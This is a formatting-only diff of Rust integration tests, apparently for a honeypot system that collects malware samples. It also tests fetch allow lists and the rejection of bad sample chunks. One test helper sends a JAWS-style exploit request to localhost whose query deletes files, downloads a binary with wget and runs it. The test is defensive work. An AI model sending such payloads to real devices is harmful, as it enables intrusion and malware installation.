@@ -471,10 +471,11 @@ impl Admin {
 impl Sensor {
     /// A JAWS-style exploit request whose query drops `url` with wget.
     fn offer(&self, url: &str) {
-        run_ok(Command::new("curl").args(["-s", "-S", "-g", "-o", "/dev/null"]).arg(format!(
-            "http://127.0.0.1:{}/shell?cd+/tmp;rm+-rf+*;wget+{url};sh+/tmp/x.elf",
-            self.http
-        )));
+        run_ok(
+            Command::new("curl")
+                .args(["-s", "-S", "-g", "-o", "/dev/null"])
+                .arg(format!("http://127.0.0.1:{}/shell?cd+/tmp;rm+-rf+*;wget+{url};sh+/tmp/x.elf", self.http)),
+        );
     }
 }
 
@@ -489,8 +490,11 @@ fn offered_urls_are_fetched_once_by_the_admin_kept_as_samples_and_refused_outsid
     let host = DropHost::start(elf_bytes.clone());
     // Loopback is refused unless allowed: allow 127.0.0.1 only, so 127.0.0.2 stands for a
     // forbidden address (never connected to).
-    let admin =
-        Admin::create(&bin, tmp.path(), "\n[fetcher]\nenabled = true\nallow = [\"127.0.0.1/32\"]\nmax_concurrent = 2\n");
+    let admin = Admin::create(
+        &bin,
+        tmp.path(),
+        "\n[fetcher]\nenabled = true\nallow = [\"127.0.0.1/32\"]\nmax_concurrent = 2\n",
+    );
     let s = admin.sensor(tmp.path(), "pi-f");
     let a = admin.start();
     let _p = s.start();
@@ -659,7 +663,10 @@ fn corrupted_oversized_and_mismatched_chunks_are_rejected_on_the_wire_and_nothin
         // Out of order (a gap), then a replayed chunk, then a chunk past the chunk cap, then one
         // past the announced size, then a size that changes mid-way.
         assert_eq!(wire::offer(&mut t, h, n).await, SampleVerdict::Want { offset: 0 });
-        assert!(matches!(wire::chunk(&mut t, h, 0, n, &good[..1000]).await, Frame::SampleAck { next_offset: 1000, .. }));
+        assert!(matches!(
+            wire::chunk(&mut t, h, 0, n, &good[..1000]).await,
+            Frame::SampleAck { next_offset: 1000, .. }
+        ));
         assert!(rejected(&wire::chunk(&mut t, h, 2000, n, &good[2000..]).await));
         assert_eq!(wire::offer(&mut t, h, n).await, SampleVerdict::Want { offset: 0 }, "the part was deleted");
         assert!(matches!(wire::chunk(&mut t, h, 0, n, &good[..1000]).await, Frame::SampleAck { .. }));
